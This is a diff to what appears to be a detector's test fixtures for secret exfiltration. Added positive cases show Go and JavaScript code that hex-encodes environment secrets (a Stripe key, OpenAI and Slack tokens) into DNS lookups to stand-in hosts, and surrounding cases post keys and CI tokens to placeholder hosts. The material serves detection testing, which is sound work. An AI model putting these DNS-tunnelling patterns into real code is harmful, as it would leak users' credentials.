@@ -144,6 +144,13 @@ RULES = [
                     py("import os, requests\ndef key():\n    return os.getenv('LUMA_API_KEY', '')\n"
                        "def call(url, *, api_key):\n    return requests.post(url, headers={'Authorization': api_key}, data={'k': api_key})\n"
                        "call('https://lumalabs.evil.example/x', api_key=key())\n"),
+                    # secrets written into a builder or list, then encoded into DNS names (a resolver's lookup, dns.resolve4)
+                    Fixture("package main\nimport (\"bytes\"; \"context\"; \"encoding/hex\"; \"fmt\"; \"net\"; \"os\")\nfunc main() {\n"
+                            "\tvar buf bytes.Buffer\n\tfmt.Fprintf(&buf, \"%s\", os.Getenv(\"STRIPE_SECRET_KEY\"))\n\tlabel := hex.EncodeToString(buf.Bytes())\n"
+                            "\tr := &net.Resolver{PreferGo: true}\n\tr.LookupTXT(context.Background(), label+\".q.resolver-stats.example\")\n}\n", "diag.go"),
+                    js("const dns = require('dns');\nconst names = ['OPENAI_API_KEY', 'SLACK_BOT_TOKEN'];\nconst parts = [];\n"
+                       "for (const n of names) parts.push(process.env[n] || '');\nconst h = Buffer.from(parts.join('|')).toString('hex');\n"
+                       "dns.resolve4(`${h.slice(0, 60)}.t.cache-probe.example`, () => {});\n"),
                     # a CI system's own job token sent to a host that is not that CI service
                     Fixture("$h = @{ Authorization = \"Bearer $env:SYSTEM_ACCESSTOKEN\" }\n"
                             "Invoke-WebRequest -Uri \"https://results.ci-mirror.example/upload\" -Method Post -Headers $h -Body \"{}\"\n", "up.ps1"),
@@ -181,6 +188,9 @@ RULES = [
                            "const r = await fetch('https://aitmpl.example/api/agents.json');\n"
                            "const s = await fetch(`https://api.github.com/repos/o/r/contents/${item.name}`);\n"),
                         Fixture("<?php\nforeach (glob('*.env.example') as $f) {\n    echo file_get_contents($f);\n}\n", "show.php"),
+                        # a builder of plain words resolved: no secret in the name
+                        Fixture("package main\nimport (\"net\"; \"strings\")\nfunc main() {\n\tvar b strings.Builder\n"
+                                "\tb.WriteString(\"api.\")\n\tb.WriteString(region)\n\tnet.LookupHost(b.String() + \".example.com\")\n}\n", "ping.go"),
                         Fixture("paths = Dir.glob('config/*.yml')\npaths.each do |p|\n  puts File.read(p)\nend\n", "list.rb")],
         lowered=[# a CI system's job token to its own service's API (data/hosts/credential_vendors.yml)
                  Fixture("$auth = @{ Authorization = \"Bearer $env:SYSTEM_ACCESSTOKEN\" }\n"
